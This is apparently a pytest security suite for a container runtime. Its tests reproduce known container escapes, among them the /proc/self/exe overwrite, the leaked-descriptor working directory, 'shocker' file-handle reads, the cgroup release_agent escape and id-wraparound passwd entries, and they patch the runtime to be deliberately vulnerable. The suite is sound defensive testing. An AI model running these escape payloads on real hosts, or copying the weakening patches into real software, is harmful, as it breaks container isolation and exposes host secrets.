"""At the process that becomes the container: its own executable, its descriptors, its working directory, its privileges."""

from __future__ import annotations

import os
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from attack_ground import BUSYBOX, GROUP, PYTHON, PYTHON_FLAGS, SECRET, File, Ground, Without

Attack = Callable[..., None]

# The interpreter's own file instead of a sealed copy; that file is a copy of Python's beside the canary's directory.
_UNSEALED = Without(
    {
        "runtime/starter.py": """
def _sealed_interpreter():
    import shutil
    path = os.environ["LADING_ATTACK_HOST"] + "-python"
    shutil.copy(os.path.realpath(sys.executable), path)
    os.chmod(path, 0o700)
    os.utime(path, (1, 1))
    return os.open(path, os.O_RDONLY | os.O_CLOEXEC)
"""
    }
)

# As the image's entry point: executes whatever started it, which then reads this script, and reaches for its own file.
_SELF = f"""#!/proc/self/exe
import os
if os.environ.get("AGAIN") is None:
    os.environ["AGAIN"] = str(os.open("/proc/self/exe", os.O_RDONLY))
    os.set_inheritable(int(os.environ["AGAIN"]), True)
    os.execv({PYTHON!r}, [{PYTHON!r}, "/self"])
path = "/proc/self/fd/" + os.environ["AGAIN"]
print("link", os.readlink(path), flush=True)
for act in (lambda: os.chmod(path, 0o4755), lambda: os.utime(path, (2, 2)), lambda: open(path, "r+b").write(b"#!")):
    try:
        act()
        print("done", flush=True)
    except OSError as error:
        print(error, flush=True)
"""


@pytest.mark.parametrize("verb", ["run", "exec"])
def test_the_engine_s_own_program_is_out_of_reach(attack: Attack, verb: str) -> None:
    """CVE-2019-5736: /proc/self/exe is the runtime until the command is executed, and after with `#!/proc/self/exe`."""
    before = os.stat(PYTHON)

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        image = ground.image("self", {"self": File(_SELF.encode(), 0o755)})
        if verb == "run":
            said = ground.run(*PYTHON_FLAGS, "--", "/self", image=image)
        else:
            box = ground.up(*PYTHON_FLAGS, "--", "sleep", "60", image=image)
            said = ground("exec", box, "/self")
            ground.down(box)
        assert "link" in said.stdout, said.stdout + said.stderr
        copy = ground.directory / "host-python"
        if copy.exists():
            info = copy.stat()
            return (info.st_mode & 0o7777, info.st_mtime) != (0o700, 1.0)
        after = os.stat(PYTHON)
        return (after.st_mode, after.st_mtime) != (before.st_mode, before.st_mtime)

    attack(strike, off=_UNSEALED)


_PEEK = """
import os, time
end = time.monotonic() + 20
while time.monotonic() < end:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) > 1 and int(name) != os.getpid():
            try:
                link = os.readlink(f"/proc/{name}/exe")
            except OSError:
                continue
            if "memfd:lading" in link:
                print("SEEN", link, flush=True)
                raise SystemExit
"""


def test_a_neighbour_sees_nothing_of_an_exec_before_its_command(attack: Attack) -> None:
    """CVE-2016-9962: between joining the container and execve a process holds the engine's descriptors."""

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        box = ground.up(*PYTHON_FLAGS, "--", PYTHON, "-c", _PEEK)
        for _ in range(40):
            ground("exec", box, "true")
            if "SEEN" in ground("logs", box).stdout:
                break
        said = ground("logs", box).stdout
        ground.down(box)
        return "SEEN" in said

    attack(
        strike,
        off=Without(
            {
                "linux/process.py": """
_held_prctl = prctl
def prctl(option, arg2=0, arg3=0):
    return 0 if option == PR_SET_DUMPABLE and not arg2 else _held_prctl(option, arg2, arg3)
"""
            }
        ),
    )


# A careless open of a directory of the host's, inherited by everything: what CVE-2024-21626 began with.
_LEAK_AT_START = {
    "runtime/offspring.py": """
os.set_inheritable(os.open(os.environ.get("LADING_ATTACK_HOST", "/tmp"), os.O_RDONLY), True)
"""
}


def _leaking(**more: str) -> Without:
    """The zygote opens the canary's directory and never closes it; its monitors and inits inherit it."""
    files = {
        "runtime/starter.py": """
_held_environment = _environment
def _environment():
    return {**_held_environment(), "LADING_ATTACK_HOST": os.environ["LADING_ATTACK_HOST"]}
""",
        **_LEAK_AT_START,
        **more,
    }
    return Without(files)


_NO_CHECK = """
def _check_dir(plan):
    os.chdir(plan["cwd"])
"""
# The runtime makes a missing working directory, and a name below /proc/self/fd is none that it could make.
_NO_MKDIR = "Root.do_mkdir = lambda self, path: None"
_NO_CLOSE = """
class _Open:
    def __getattr__(self, name):
        return getattr(_held_process, name)

    def close_range(self, first, last=0xFFFFFFFF, flags=0):
        pass


_held_process = process
process = _Open()
"""


@pytest.mark.parametrize("verb", ["run", "exec", "image"])
def test_a_working_directory_below_proc_self_fd(attack: Attack, verb: str) -> None:
    """CVE-2024-21626: a leaked descriptor of a host directory becomes the working directory."""

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        box = ground.up("--", "sleep", "100") if verb == "exec" else ""
        found = False
        for fd in range(3, 40):
            where = f"/proc/self/fd/{fd}"
            if verb == "run":
                said = ground.run("-w", where, "--", "cat", "canary")
            elif verb == "exec":
                said = ground("exec", "-w", where, box, "cat", "canary")
            else:
                image = ground.image(f"wd{fd}", {}, f"WORKDIR {where}")
                said = ground.run("--", "cat", "canary", image=image)
            found = SECRET in said.stdout
            if found:
                break
        if box:
            ground.down(box)
        return found

    less = {"runtime/become.py": _NO_CHECK + _NO_CLOSE, "runtime/root.py": _NO_MKDIR}
    attack(strike, off=_leaking(**less), weak=_leaking())


def test_no_descriptor_is_inherited(attack: Attack) -> None:
    """A descriptor that somebody forgot to mark close-on-exec still does not reach the command."""

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        script = "for d in /proc/self/fd/*; do cat $d/canary; done 2>/dev/null; true"
        first = ground.run("--", "sh", "-c", script).stdout
        box = ground.up("--", "sleep", "60")
        second = ground("exec", box, "sh", "-c", script).stdout
        ground.down(box)
        return SECRET in first + second

    attack(strike, off=_leaking(**{"runtime/become.py": _NO_CLOSE}), weak=_leaking())


# -- privileges --------------------------------------------------------------------------------------------------


def _file_capability() -> bytes:
    """security.capability, revision 2: every capability inheritable, effective bit set (capability.h)."""
    ones = b"\xff\xff\xff\xff"
    return b"\x01\x00\x00\x02" + b"\0" * 4 + ones + b"\0" * 4 + ones


def _guarded(ground: Ground) -> tuple[str, ...]:
    """A file of the host's, root's alone, shown in the container: a plain user inside must not read it."""
    return ("-v", f"{ground.canary}:/canary:ro")


@pytest.mark.parametrize("verb", ["run", "exec"])
def test_inheritable_capabilities_are_empty(attack: Attack, verb: str) -> None:
    """CVE-2022-24769: with inheritable capabilities a file that has them gives them to any user."""

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        program = File(Path(BUSYBOX).read_bytes(), 0o755, capability=_file_capability())
        image = ground.image("filecaps", {"cat": program})
        # Without no_new_privs, which alone would hold as well.
        held = ("--security-opt", "no-new-privileges=false", *_guarded(ground))
        if verb == "run":
            return SECRET in ground.run("-u", "1000", *held, "--", "/cat", "/canary", image=image).stdout
        box = ground.up(*held, "--", "sleep", "60", image=image)
        said = ground("exec", "-u", "1000", box, "/cat", "/canary").stdout
        ground.down(box)
        return SECRET in said

    attack(
        strike,
        off=Without(
            {
                "engine/spec.py": """
_held_described = process
def process(plan):
    out = _held_described(plan)
    out["capabilities"]["inheritable"] = list(plan.caps)
    return out
"""
            }
        ),
    )


@pytest.mark.parametrize("verb", ["run", "exec"])
def test_no_new_privileges_is_on(attack: Attack, verb: str) -> None:
    """A set-user-ID program of the image gives a plain user nothing."""
    read = "print(open('/canary').read())"

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        # Not busybox, which gives up a set-user-ID bit by itself.
        image = ground.image("setuid", {"py": File(Path(PYTHON).read_bytes(), 0o4755)})
        held = (*PYTHON_FLAGS, *_guarded(ground), *flags)
        if verb == "run":
            return SECRET in ground.run("-u", "1000", *held, "--", "/py", "-c", read, image=image).stdout
        box = ground.up(*held, "--", "sleep", "60", image=image)
        said = ground("exec", "-u", "1000", box, "/py", "-c", read).stdout
        ground.down(box)
        return SECRET in said

    attack(strike, off=("--security-opt", "no-new-privileges=false"))


_IDS = [
    "4294967295",
    "4294967296",
    "-1",
    "-0",
    " 0",
    "0x0",
    "18446744073709551616",
    "evil",
    "wrap",
    "minus",
    "hex",
    "๐",
]
_HOSTILE = """evil:x:4294967295:0::/:/bin/sh
wrap:x:4294967296:4294967296::/:/bin/sh
minus:x:-4294967296:0::/:/bin/sh
hex:x:0x0:0x0::/:/bin/sh
4294967296:x:0:0::/:/bin/sh:x
"""


def test_ids_do_not_wrap(attack: Attack) -> None:
    """CVE-2016-3697 and its kin: an id that is no id must not end as root's. Names that are numbers count as names."""

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        image = ground.image("ids", {"etc/passwd": _HOSTILE.encode()[: _HOSTILE.rindex("4294967296:x:0")]})
        box = ground.up(*_guarded(ground), "--", "sleep", "60", image=image)
        found = False
        for user in _IDS:
            first = ground.run("--user=" + user, *_guarded(ground), "--", "cat", "/canary", image=image)
            second = ground("exec", "--user=" + user, box, "cat", "/canary")
            found = SECRET in first.stdout + second.stdout
            if found:
                break
        ground.down(box)
        return found

    attack(
        strike,
        off=Without(
            {
                "engine/users.py": """
def _id(text):
    try:
        return int(text, 0) & 0xFFFFFFFF
    except ValueError:
        return None


def _number(text, kind):
    return _id(text)
"""
            }
        ),
    )


@pytest.mark.parametrize("verb", ["run", "exec"])
def test_the_daemon_s_groups_are_dropped(attack: Attack, verb: str) -> None:
    """CVE-2022-2990 and its kin: a supplementary group of the engine's opens files to a plain user inside."""

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        os.chown(ground.canary, 0, GROUP)
        ground.canary.chmod(0o640)
        if verb == "run":
            return SECRET in ground.run("-u", "1000", *_guarded(ground), "--", "cat", "/canary").stdout
        box = ground.up(*_guarded(ground), "--", "sleep", "60")
        said = ground("exec", "-u", "1000", box, "cat", "/canary").stdout
        ground.down(box)
        return SECRET in said

    keeping = """
_held_change = _change_user
def _change_user(plan, capabilities):
    _held_change({**plan, "keep_groups": True}, capabilities)
"""
    attack(strike, off=Without({"runtime/become.py": keeping}))


# -- what the kernel lets a container's root do ------------------------------------------------------------------

_SHOCKER = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
kind, handle = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
made = Handle(len(handle), kind)
made.data[: len(handle)] = handle
mount = os.open("/etc/hostname", os.O_RDONLY)
fd = libc.open_by_handle_at(mount, ctypes.byref(made), os.O_RDONLY)
print(os.read(fd, 100) if fd >= 0 else os.strerror(ctypes.get_errno()))
"""


def _handle(path: str) -> tuple[int, bytes]:
    """name_to_handle_at(2)."""
    import ctypes

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]

    libc = ctypes.CDLL(None, use_errno=True)
    made, mount = Handle(128), ctypes.c_int()
    if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(made), ctypes.byref(mount), 0):
        pytest.skip("the file system of the test's directory gives no file handles")
    return made.type, bytes(made.data[: made.size])


def test_no_file_is_opened_by_handle(attack: Attack) -> None:
    """The "shocker": a handle names any file of a mounted file system, past every mount namespace."""

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        kind, data = _handle(str(ground.canary))
        return SECRET in ground.python(_SHOCKER, str(kind), data.hex(), flags=flags)

    attack(strike, off=("--cap-add", "DAC_READ_SEARCH"))


_DISK = """
import os, stat, sys
kind = stat.S_IFBLK if sys.argv[1] == "b" else stat.S_IFCHR
os.mknod("/tmp/node", kind | 0o600, os.makedev(int(sys.argv[2]), int(sys.argv[3])))
fd = os.open("/tmp/node", os.O_RDONLY | os.O_NONBLOCK)
print("OPENED", os.fstat(fd).st_rdev)
"""


def test_a_made_device_node_opens_nothing(attack: Attack) -> None:
    """CAP_MKNOD makes the node of the host's disk; the device rules refuse to open it."""
    path = _openable(["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop0", "/dev/kmsg", "/dev/fuse"])
    kind = "b" if stat.S_ISBLK(os.stat(path).st_mode) else "c"
    number = os.stat(path).st_rdev
    node = (kind, str(os.major(number)), str(os.minor(number)))

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        return "OPENED" in ground.python(_DISK, *node, flags=flags)

    attack(strike, off=("--device-cgroup-rule", f"{kind} {node[1]}:{node[2]} rwm"))


def _openable(paths: list[str]) -> str:
    """The first device of the host's that root itself may open here."""
    for path in paths:
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            return path
        except OSError:
            continue
    pytest.skip("root may open no device here beside a container's own")


_CGROUP = """
import os, sys
os.mkdir("/tmp/cg")
name, script = sys.argv[1:]
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"cgroup", b"/tmp/cg", b"cgroup", 0, b"none,name=" + name.encode()):
    raise SystemExit("mount: " + os.strerror(ctypes.get_errno()))
open("/tmp/cg/release_agent", "w").write(script)
os.mkdir("/tmp/cg/x")
open("/tmp/cg/x/notify_on_release", "w").write("1")
pid = os.fork()
if pid == 0:
    open("/tmp/cg/x/cgroup.procs", "w").write("0")
    os._exit(0)
os.waitpid(pid, 0)
import time
time.sleep(0.5)
os.rmdir("/tmp/cg/x")
libc.umount2(b"/tmp/cg", 0)
"""


def test_no_release_agent(attack: Attack) -> None:
    """CVE-2022-0492: a v1 hierarchy's release_agent is a program that the host runs as root."""
    import time

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        script = ground.directory / "agent"
        script.write_text(f"#!/bin/sh\necho agent > {ground.host}/was-here\n")
        script.chmod(0o755)
        said = ground.python(_CGROUP, f"attack{os.getpid()}", str(script), flags=flags)
        time.sleep(0.3)
        if flags and "No such device" in said:
            pytest.skip("this kernel has no v1 control groups")
        return ground.touched()

    attack(strike, off=("--privileged",))


_KEYS = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": (250, 249), "aarch64": (219, 218)}[os.uname().machine][0]
key = libc.syscall(number, 10, -4, b"user", sys.argv[1].encode(), 0)  # KEYCTL_SEARCH in the user's keyring
out = ctypes.create_string_buffer(100)
size = libc.syscall(number, 11, key, out, 100) if key > 0 else -1  # KEYCTL_READ
print(out.raw[: max(size, 0)], os.strerror(ctypes.get_errno()))
"""


def test_the_host_s_keys_cannot_be_read(attack: Attack) -> None:
    """Keyrings belong to a user, not to a namespace: root inside would read root's keys."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
    name = f"lading-attack-{os.getpid()}"
    key = libc.syscall(add, b"user", name.encode(), SECRET.encode(), len(SECRET), -4)
    if key < 0:
        pytest.skip("this kernel has no keyrings")
    libc.syscall(control, 5, key, 0x3F3F0000)  # KEYCTL_SETPERM: possessor and user

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        return SECRET in ground.python(_KEYS, name, flags=flags)

    try:
        attack(strike, off=("--security-opt", "seccomp=unconfined"))
    finally:
        libc.syscall(control, 9, key, -4)  # KEYCTL_UNLINK


def test_the_host_s_processes_are_out_of_sight(attack: Attack) -> None:
    """Its command line tells whether a process is there to be signalled."""
    import subprocess

    victim = subprocess.Popen([sys.executable, "-c", "input()", SECRET], stdin=subprocess.PIPE)

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        said = ground.run(*flags, "--", "sh", "-c", "cat /proc/[0-9]*/cmdline").stdout
        return SECRET in said

    try:
        attack(strike, off=("--pid", "host"))
    finally:
        victim.kill()
        victim.wait()


_SHM = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
at = libc.shmat(libc.shmget(int(sys.argv[1]), 0, 0), None, 0o10000)
print(ctypes.string_at(at, 11) if at and at != 2**64 - 1 else "none")
"""


def test_the_host_s_shared_memory_is_out_of_reach(attack: Attack) -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    key = 0x1AD1 << 16 | os.getpid() & 0xFFFF
    segment = libc.shmget(key, 4096, 0o1600)
    assert segment >= 0
    ctypes.memmove(libc.shmat(segment, None, 0), SECRET.encode(), len(SECRET))

    def strike(ground: Ground, flags: tuple[str, ...]) -> bool:
        return SECRET in ground.python(_SHM, str(key), flags=flags)

    try:
        attack(strike, off=("--ipc", "host"))
    finally:
        libc.shmctl(segment, 0, None)
